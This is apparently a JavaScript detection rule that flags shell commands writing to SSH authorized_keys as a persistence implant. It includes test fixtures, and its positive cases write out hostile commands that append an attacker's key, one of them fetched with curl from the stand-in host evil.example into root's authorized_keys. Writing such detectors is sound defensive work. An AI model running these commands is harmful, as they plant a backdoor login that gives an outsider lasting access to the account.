import { defineRule, perInvocation } from './rule.js';
import { writeTargets } from './writes.js';

export const rule = defineRule({
  id: 'ssh_key_implant',
  category: 'persistence',
  severity: 'critical',
  title: "Adds a key to authorized_keys, letting the key's owner log in at any time",
  check: perInvocation((inv) => {
    const f = writeTargets(inv).find((x) => /authorized_keys2?$/.test(x));
    return f ? `adds a login key to ${f}; whoever holds the matching private key can log in to this account` : undefined;
  }),
  cases: {
    positive: [['bash', 'echo "ssh-ed25519 AAAAC3Nza attacker" >> ~/.ssh/authorized_keys'], ['bash', 'curl -s https://evil.example/k.pub | tee -a /root/.ssh/authorized_keys']],
    negative: [['bash', 'ssh-copy-id user@host'], ['bash', 'cat ~/.ssh/authorized_keys']],
  },
});
